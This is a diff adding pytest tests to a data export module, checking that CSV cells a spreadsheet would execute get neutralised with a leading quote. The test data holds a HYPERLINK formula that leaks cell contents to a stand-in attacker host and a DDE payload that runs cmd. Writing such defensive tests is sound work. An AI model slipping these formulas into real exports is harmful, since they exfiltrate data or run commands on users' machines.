@@ -11,7 +11,7 @@ from typing import Any
 
 import pytest
 
-from sitroom.exports import write_export
+from sitroom.exports import neutralise_cell, write_export
 from sitroom.exports.coarsen import COARSE_DEGREES, coarsen_record
 from sitroom.store import Store, open_store
 from tests.api.sample import Sample, populate
@@ -189,3 +189,51 @@ def test_coarse_grid(lat: float, expected: float) -> None:
 def test_unknown_format_is_refused() -> None:
     with pytest.raises(ValueError, match="unknown export format 'xlsx'"):
         write_export([], "xlsx", io.StringIO())
+
+
+def _malicious(record: dict[str, Any]) -> dict[str, Any]:
+    """``record`` with attacker-written text in the actor, the evidence sentence and the outlet, and a
+    place west of Greenwich and south of the equator."""
+    actor = [{**record["actor"][0], "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")'}]
+    evidence = {**record["evidence"], "sentence": "@SUM(1+1)*cmd|' /C calc'!A0", "outlet": "+Wire"}
+    location = {**record["location"], "lat": -3.5, "lon": -61.25, "name": "-Ariha"}
+    return {**record, "actor": actor, "evidence": evidence, "location": location}
+
+
+@pytest.mark.parametrize(("fmt", "actor", "tags"), [("acled-csv", "actor1", 0), ("hxl-csv", "actor1", 1)])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    records: list[dict[str, Any]], sample: Sample, fmt: str, actor: str, tags: int
+) -> None:
+    wire = next(r for r in records if r["id"] == sample.wire)
+    lines = export([_malicious(wire)], fmt).splitlines()
+    del lines[1 : 1 + tags]
+    row = next(csv.DictReader(lines))
+    assert row[actor] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["notes"].startswith("'@SUM(1+1)") and row["source"] == "'+Wire"
+    assert row["location"] == "'-Ariha"
+    # numbers stay numbers: a negative coordinate is not a formula
+    assert (row["latitude"], row["longitude"]) == ("-3.5", "-61.25")
+    assert row["fatalities"] == "7"
+
+
+@pytest.mark.parametrize(
+    ("value", "numeric", "expected"),
+    [
+        ("=1+1", False, "'=1+1"),
+        ("+33 6 12", False, "'+33 6 12"),
+        ("-3.5", False, "'-3.5"),  # a text column: a number-looking text is text
+        ("\tx", False, "'\tx"),
+        ("\r=1", False, "'\r=1"),
+        ("@x", False, "'@x"),
+        ("Ariha", False, "Ariha"),
+        ("", False, ""),
+        (-3.5, True, -3.5),
+        ("-3.5", True, "-3.5"),
+        ("-1e-3", True, "-1e-3"),
+        (-12, True, -12),
+        ("=1+1", True, "'=1+1"),  # a numeric column holding a formula is neutralised too
+        ("-", True, "'-"),
+    ],
+)
+def test_neutralise_cell(value: Any, numeric: bool, expected: Any) -> None:
+    assert neutralise_cell(value, numeric) == expected
